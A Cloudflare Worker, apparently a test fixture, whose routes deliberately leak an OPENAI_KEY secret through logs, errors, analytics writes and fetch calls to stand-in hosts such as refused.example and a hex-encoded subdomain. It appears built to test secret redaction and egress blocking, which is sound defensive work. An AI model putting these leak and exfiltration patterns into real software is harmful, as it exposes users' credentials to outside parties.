import { DurableObject } from "cloudflare:workers";

interface Env {
	OPENAI_KEY: string;
	POINTS: AnalyticsEngineDataset;
	VAULT: DurableObjectNamespace<Vault>;
}

const encoder = new TextEncoder();
const hex = (data: Uint8Array): string => [...data].map((b) => b.toString(16).padStart(2, "0")).join("");

export class Vault extends DurableObject<Env> {
	async leak(): Promise<string> {
		console.log("in an actor", this.env.OPENAI_KEY);
		throw new Error(`an actor fails with ${this.env.OPENAI_KEY}`);
	}
}

/** Puts its secret wherever something is written down. */
export default {
	async fetch(request: Request, env: Env, ctx: ExecutionContext): Promise<Response> {
		const key = env.OPENAI_KEY;
		switch (new URL(request.url).pathname) {
			case "/digest":
				return new Response(hex(new Uint8Array(await crypto.subtle.digest("SHA-256", encoder.encode(key)))));
			case "/log":
				console.log("the key is", key, { nested: [key] });
				console.error(`Bearer ${key}`);
				console.warn(btoa(key), btoa("user:" + key), hex(encoder.encode(key)), hex(encoder.encode(key)).toUpperCase(), encodeURIComponent(key), JSON.stringify({ key }));
				return new Response("logged");
			case "/throw":
				throw new Error(`no luck with ${key}`, { cause: btoa(key) });
			case "/name": {
				const error = new Error("a name");
				error.name = key;
				throw error;
			}
			case "/late":
				ctx.waitUntil(Promise.reject(new TypeError(key)));
				return new Response("later");
			case "/point":
				env.POINTS.writeDataPoint({ indexes: [key.slice(0, 96)], blobs: [key, btoa(key), "plain"], doubles: [1] });
				return new Response("written");
			case "/refused":
				await fetch(`http://refused.example/${key}?q=${encodeURIComponent(key)}`, { headers: { Authorization: `Bearer ${key}`, [`X-${hex(encoder.encode(key))}`]: key } });
				return new Response("sent");
			case "/refused-host":
				await fetch(`http://${hex(encoder.encode(key))}.example/`);
				return new Response("sent");
			case "/refused-url":
				await fetch(`nothing://${key}`);
				return new Response("sent");
			case "/actor":
				return new Response(await env.VAULT.get(env.VAULT.idFromName("v")).leak());
		}
		return new Response("?");
	},
};
